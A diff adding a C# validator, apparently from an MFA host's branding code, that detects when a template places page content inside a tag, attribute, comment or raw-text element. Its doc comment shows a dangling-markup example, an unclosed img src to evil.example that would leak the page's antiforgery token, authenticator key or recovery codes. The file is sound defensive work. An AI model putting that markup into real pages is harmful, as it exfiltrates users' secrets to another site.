@@ -1,0 +1,108 @@
+namespace RulesMfa.Host.Branding;
+
+/// <summary>
+/// Where a template shows the page's content: between elements, as the default layout does. Inside a tag or one of its
+/// attributes (quoted or not, closed or not), a comment, or an element whose content is text (<c>style</c>,
+/// <c>title</c>, <c>textarea</c>...), a browser takes the page's markup as that text, so an attribute left open
+/// (<c>&lt;img src="https://evil.example/?{{ content }}"&gt;</c>) sends the page, with its antiforgery token, an
+/// authenticator's key or a new recovery code, to another site in a URL, as dangling markup does.
+/// </summary>
+/// <remarks>
+/// Read as a browser reads the template's own markup up to the content, and more warily: a quote anywhere in a tag opens a
+/// quoted part (a browser opens one only after <c>=</c>), so a tag this reading cannot end holds the content.
+/// </remarks>
+public static class ContentPlacement
+{
+    // The elements whose content a browser reads as text up to their end tag (raw text and escapable raw text).
+    private static readonly string[] TextElements = ["script", "style", "textarea", "title", "xmp", "iframe", "noembed", "noframes", "noscript", "plaintext"];
+
+    /// <summary>Where content at <paramref name="index"/> of <paramref name="html"/> would be read as text ("inside a comment"), or null when it stands between elements.</summary>
+    public static string? Problem(string html, int index)
+    {
+        var at = 0;
+        while (at < index)
+        {
+            var open = html.IndexOf('<', at, index - at);
+            if (open < 0)
+            {
+                return null;
+            }
+
+            if (string.CompareOrdinal(html, open, "<!--", 0, 4) == 0)
+            {
+                var endOfComment = html.IndexOf("-->", open + 4, StringComparison.Ordinal);
+                if (endOfComment < 0 || endOfComment + 3 > index)
+                {
+                    return "inside a comment";
+                }
+
+                at = endOfComment + 3;
+                continue;
+            }
+
+            var next = open + 1 < html.Length ? html[open + 1] : '\0';
+            if (!char.IsAsciiLetter(next) && next is not ('/' or '!' or '?'))
+            {
+                at = open + 1; // a lone '<' is text
+                continue;
+            }
+
+            var close = EndOfTag(html, open);
+            if (close < 0 || close >= index)
+            {
+                return "inside a tag or one of its attributes";
+            }
+
+            at = close + 1;
+            var name = NameOf(html, open);
+            if (next != '/' && TextElements.Contains(name, StringComparer.Ordinal))
+            {
+                var endTag = html.IndexOf("</" + name, at, StringComparison.OrdinalIgnoreCase);
+                if (endTag < 0 || endTag >= index)
+                {
+                    return $"inside a <{name}> element";
+                }
+
+                at = endTag; // read as a tag in the next turn
+            }
+        }
+
+        return null;
+    }
+
+    /// <summary>The <c>&gt;</c> that ends the tag opened at <paramref name="open"/>, past quoted parts; -1 when none does.</summary>
+    private static int EndOfTag(string html, int open)
+    {
+        char? quote = null;
+        for (var i = open + 1; i < html.Length; i++)
+        {
+            var c = html[i];
+            if (quote is { } q)
+            {
+                quote = c == q ? null : q;
+            }
+            else if (c is '"' or '\'')
+            {
+                quote = c;
+            }
+            else if (c == '>')
+            {
+                return i;
+            }
+        }
+
+        return -1;
+    }
+
+    private static string NameOf(string html, int open)
+    {
+        var start = html[open + 1] == '/' ? open + 2 : open + 1;
+        var end = start;
+        while (end < html.Length && char.IsAsciiLetterOrDigit(html[end]))
+        {
+            end++;
+        }
+
+        return html[start..end].ToLowerInvariant();
+    }
+}
